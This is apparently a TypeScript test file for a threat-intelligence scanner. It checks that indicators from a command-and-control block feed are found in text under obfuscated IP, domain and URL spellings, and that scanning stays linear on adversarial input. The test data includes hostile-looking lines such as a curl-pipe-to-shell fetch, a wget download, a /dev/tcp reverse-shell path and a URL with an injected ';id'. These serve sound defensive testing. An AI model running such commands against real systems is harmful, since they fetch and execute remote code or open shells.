import fc from 'fast-check';
import t from 'tap';
import { buildIndex } from '../../src/intel/index-build.js';
import { EMPTY_INDEX, openIndex } from '../../src/intel/indicator-index.js';
import type { IndicatorType } from '../../src/intel/indicator.js';
import { scanHash, scanHost, scanText } from '../../src/intel/scan.js';

const SHA256 = 'ab'.repeat(32);
const VALUES: readonly (readonly [IndicatorType, string])[] = [
  ['ipv4', '198.51.100.7'],
  ['ipv6', '2001:db8::7'],
  ['domain', 'c2.example'],
  ['domain', 'xn--e1afmkfd.example'],
  ['url', 'shared.example/m.sh'],
  ['url', 'shared.example/a/b.git'],
  ['url', '198.51.100.9:8080/x'],
  ['hash', SHA256],
];
const index = openIndex(
  buildIndex(
    VALUES.map(([type, value]) => ({
      type,
      value,
      feed: 'c2',
      action: 'block',
      confidence: 90,
      threat: '',
      port: 0,
    })),
    { seed: [1, 2] },
  ),
);
const found = (text: string): string =>
  scanText(text, index, 'here')
    .matches.map(({ hit }) => hit.indicator)
    .join(' ');

t.test('finds indicators in a text in all spellings', async (t) => {
  const table: Readonly<Record<string, readonly string[]>> = {
    'c2.example': [
      ...[
        'c2.example',
        'C2.Example.',
        'curl a.b.c2.example:8080',
        'http://u:p@c2.example/x',
        'http://good.example@c2.example',
        'ssh user@c2.example',
      ],
      ...[
        'git@c2.example:a/b.git',
        '//c2.example/x',
        'KEY=c2.example',
        '{"k":"c2.example"}',
        'reg.c2.example:5000/a/b@sha256:00',
        '-xc2.example',
        '--proxy=c2.example',
      ],
      ...[
        'http://%63%32.example/',
        'ｃ２。example',
        'ftp://c2.example',
        'tcp://c2.example:1',
        'udp://c2.example',
        '"a\\nc2.example"',
        'http:\\\\c2.example\\x',
        '(c2.example)',
        'c2.example,d',
      ],
      ...[
        'c2.example:198.51.100.8',
        'http://c2.example\\@good.example/',
        '“c2.example”',
        '..c2.example..',
        'docker://c2.example/a:1',
      ],
    ],
    'xn--e1afmkfd.example': ['пример.example', 'curl https://ПРИМЕР.example/x', 'xn--e1afmkfd.example'],
    '198.51.100.7': [
      ...[
        '198.51.100.7',
        '198.51.100.7:443',
        'x 0xc6.0x33.0x64.7 y',
        '0306.063.0144.07',
        'http://3325256711/',
        'http://0xc6336407',
        'http://198.51.25607/',
        'git@3325256711:a',
      ],
      ...[
        '/dev/tcp/3325256711/80',
        'evil:198.51.100.7',
        '[::ffff:198.51.100.7]:80',
        '::ffff:c633:6407',
        'evil:::ffff:c633:6407',
        '64:ff9b::c633:6407',
        '[2002:c633:6407::]:1',
      ],
      ...[
        '-h198.51.100.7',
        'HOST_198.51.100.7',
        '198.51.100.7-198.51.100.8',
        '１９８.51.100.7',
        'http://u@3325256711/',
        'tcp://198.51.100.7:2375',
      ],
    ],
    '2001:db8::7': [
      '2001:db8::7',
      '[2001:DB8:0:0::7]:443',
      'host:2001:db8::7',
      'c2:2001:db8::7',
      'http://[2001:db8::7]/x',
      '2001:db8::7%eth0',
      '2001:db8::7:443',
    ],
    'shared.example/m.sh': [
      ...[
        'curl https://shared.example/m.sh|sh',
        '(http://shared.example/m.sh)',
        'shared.example/m.sh?x=1',
        'http://shared.example/a/../%6d.sh;id',
        'http:\\/\\/shared.example\\/m.sh',
      ],
      ...[
        'See shared.example/m.sh.',
        'https://shared.example:443/m.sh#x',
        '<a href="//shared.example/m.sh">',
      ],
    ],
    'shared.example/a/b.git': [
      'git clone git@shared.example:a/b.git',
      'ssh://git@shared.example/a/b.git',
      'git://shared.example:9418/a/b.git',
      'shared.example/a/b.git#main:dir',
    ],
    '198.51.100.9:8080/x': ['wget 198.51.100.9:8080/x', 'http://0xc6336409:8080/x'],
    [SHA256]: [`alpine@sha256:${SHA256}`, SHA256.toUpperCase(), `a-${SHA256}.tar.gz`, `sha256_${SHA256}`],
  };
  for (const [indicator, texts] of Object.entries(table)) {
    for (const text of texts) t.ok(found(text).split(' ').includes(indicator), `${text} → ${found(text)}`);
  }
  const nothing = [
    'c3.example',
    'xc2.example.org',
    'notc2.example',
    '198.51.100.70',
    '1.198.51.100.7',
    '3325256711',
    'alpine:198.51',
    'http://shared.example/',
    'shared.example/m.shx',
    `${SHA256}0`,
    '',
    'v198',
    'a::b',
  ];
  for (const text of nothing) t.equal(found(text), '', text);
  t.equal(scanText('c2.example', EMPTY_INDEX, '').matches.length, 0);
  t.match(scanText(`x C2.example:1 ${'y'.repeat(300)}`, index, 'here').matches, [
    { hit: { indicator: 'c2.example', feed: 'c2' }, value: 'C2.example', where: 'here' },
  ]);
});

t.test('a text that is a host, or a hash', async (t) => {
  for (const text of [
    '3325256711',
    '198.51.100.7:80',
    '[::ffff:c633:6407]:80',
    '::ffff:198.51.100.7',
    '0xc6336407',
  ]) {
    t.equal(scanHost(text, index, 'h')?.hit.indicator, '198.51.100.7', text);
  }
  t.equal(scanHost('A.C2.EXAMPLE.:443', index, 'h')?.hit.indicator, 'c2.example');
  t.equal(scanHost('a+b.c2.example', index, 'h')?.hit.indicator, 'c2.example');
  for (const text of ['', ':', '[', 'good.example', '1.2.3.4', 'http://c2.example'])
    t.equal(scanHost(text, index, 'h'), undefined);
  t.equal(scanHash(`sha256:${SHA256.toUpperCase()}`, index, 'h')?.hit.type, 'hash');
  t.equal(scanHash('ab', index, 'h'), undefined);
});

t.test('more is found than is listed: said, not dropped', async (t) => {
  const many = Array.from({ length: 400 }, (_, i) => `n${i}.example`);
  const of = (action: 'block' | 'alert') =>
    openIndex(
      buildIndex(
        many.map((value) => ({
          type: 'domain',
          value,
          feed: 'f',
          action,
          confidence: 1,
          threat: '',
          port: 0,
        })),
        { seed: [1, 2] },
      ),
    );
  const blocked = scanText(many.join(' '), of('block'), '');
  t.equal(blocked.matches.length, 256);
  t.equal(blocked.truncated, true);
  t.equal(scanText(many.join(' '), of('alert'), '').truncated, false);
});

t.test('reads any text, and sees a name between any others', async () => {
  const piece = fc.constantFrom(
    ...[
      'http://',
      '//',
      '@',
      ':',
      '/',
      '\\',
      '.',
      '..',
      '-',
      '%31',
      '[',
      ']',
      '::',
      'a',
      '1',
      '0x',
      ' ',
      '\n',
      '"',
      ';',
      '?',
      '#',
      'é',
      '。',
      '\ud800',
      '￿',
      '​',
    ],
    ...['shared.example', 'git@', '/dev/tcp/', 'ffff', '|', '\0'],
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), fc.array(piece, { maxLength: 40 }), (before, after) => {
      const text = `${before.join('')} c2.example ${after.join('')}`;
      return scanText(text, index, '').matches.some(({ hit }) => hit.indicator === 'c2.example');
    }),
    { numRuns: 5000 },
  );
});

t.test('linear on input that is made to be slow', async (t) => {
  // CPU time of this process, not of the clock: four times the text may not take much more than four times as long.
  const attacks = [
    ...[
      'http://1.1.1.1',
      '-',
      'a.',
      'a.a.a',
      'http://%31.1.1.1',
      'http://a@',
      '::',
      'a::1 ',
      '[::',
      '1.1.1.1/',
      'é.é ',
      '。',
      'é',
      'shared.example/',
      'shared.example/;',
    ],
    ...[
      '://',
      'http:',
      '0x',
      '%',
      '@',
      'http://\\',
      '//1',
      '//a@',
      '\\/',
      SHA256,
      '1.',
      '_',
      'http://[',
      `https://shared.example/${';,'.repeat(900)} `,
    ],
    `https://shared.example/${'.'.repeat(1900)}a `,
  ];
  const cpu = (text: string): number => {
    const start = process.cpuUsage();
    scanText(text, index, '');
    const { user, system } = process.cpuUsage(start);
    return user + system;
  };
  const best = (text: string): number => Math.min(cpu(text), cpu(text), cpu(text));
  for (const attack of attacks) {
    const text = (bytes: number): string =>
      Buffer.from(attack.repeat(Math.ceil(bytes / attack.length))).toString();
    const [small, large] = [best(text(64 * 1024)), best(text(256 * 1024))];
    // 20 ms of grace: the garbage collector and the compiler.
    t.ok(
      large < 16 * small + 20_000,
      `${JSON.stringify(attack.slice(0, 30))}: ${small} µs, four times as much ${large} µs`,
    );
  }
});
